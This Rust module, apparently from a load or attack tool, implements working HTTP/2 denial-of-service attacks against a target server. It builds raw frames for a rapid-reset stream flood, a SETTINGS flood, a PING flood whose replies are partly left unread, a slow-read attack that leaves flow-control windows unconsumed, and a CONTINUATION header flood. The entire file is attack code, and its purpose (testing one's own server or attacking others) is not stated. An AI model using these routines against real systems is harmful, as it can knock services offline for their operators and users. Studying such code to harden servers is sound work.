//! Frames of HTTP/2 (RFC 9113) that make more work than they are.

use super::{Target, connect, flood};
use std::io;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames are small").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

async fn open(target: Target, number: usize) -> io::Result<TcpStream> {
    let mut socket = connect(target.address, number).await?;
    socket.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    socket.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    Ok(socket)
}

/// `GET` of that path, in the words of RFC 7541.
fn get(path: &str) -> Vec<u8> {
    let length = u8::try_from(path.len()).expect("it is short");
    [&[0x82, 0x86, 0x04, length], path.as_bytes(), &[0x01, 1, b'a']].concat()
}

/// Each request is taken back at once.
pub(super) async fn resets(target: Target, number: usize) -> io::Result<()> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut socket = open(target, number).await?;
    let request = get("/v1/stream/c?offset=-1");
    for first in (1_u32..1 << 30).step_by(2_000) {
        let mut frames = Vec::new();
        for stream in (first..first + 2_000).step_by(2) {
            frames.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
            frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        }
        socket.write_all(&frames).await?;
    }
    Ok(())
}

pub(super) async fn settings(target: Target, number: usize) -> io::Result<()> {
    const MAX_CONCURRENT_STREAMS_100: [u8; 6] = [0, 3, 0, 0, 0, 100];
    let settings = frame(SETTINGS, 0, 0, &MAX_CONCURRENT_STREAMS_100).repeat(5_000);
    flood(open(target, number).await?, &settings).await
}

/// Half of them take no answer.
pub(super) async fn pings(target: Target, number: usize) -> io::Result<()> {
    let mut socket = open(target, number).await?;
    let pings = frame(PING, 0, 0, b"whatever").repeat(5_000);
    if number.is_multiple_of(2) {
        return flood(socket, &pings).await;
    }
    loop {
        socket.write_all(&pings).await?;
    }
}

/// Asks for as much as it may, and takes none of it but what the windows let through by themselves. One after the other: those who ask in
/// the same moment share what they get.
pub(super) async fn unread(target: Target, number: usize) -> io::Result<()> {
    let mut socket = open(target, number).await?;
    for stream in (1_u32..250).step_by(2) {
        let path = if stream % 8 == 1 { "/v1/stream/c?offset=-1&live=sse" } else { "/v1/stream/c?offset=-1" };
        socket.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &get(path))).await?;
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    std::future::pending().await
}

pub(super) async fn continuations(target: Target, number: usize) -> io::Result<()> {
    let mut socket = open(target, number).await?;
    socket.write_all(&frame(HEADERS, END_STREAM, 1, &get("/v1/stream/c"))).await?;
    // A field that is written out, with a value of 100 bytes; or nothing at all.
    let field = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat();
    let more = match number % 2 {
        0 => frame(CONTINUATION, 0, 1, &field.repeat(100)).repeat(20),
        _ => frame(CONTINUATION, 0, 1, &[]).repeat(10_000),
    };
    flood(socket, &more).await
}
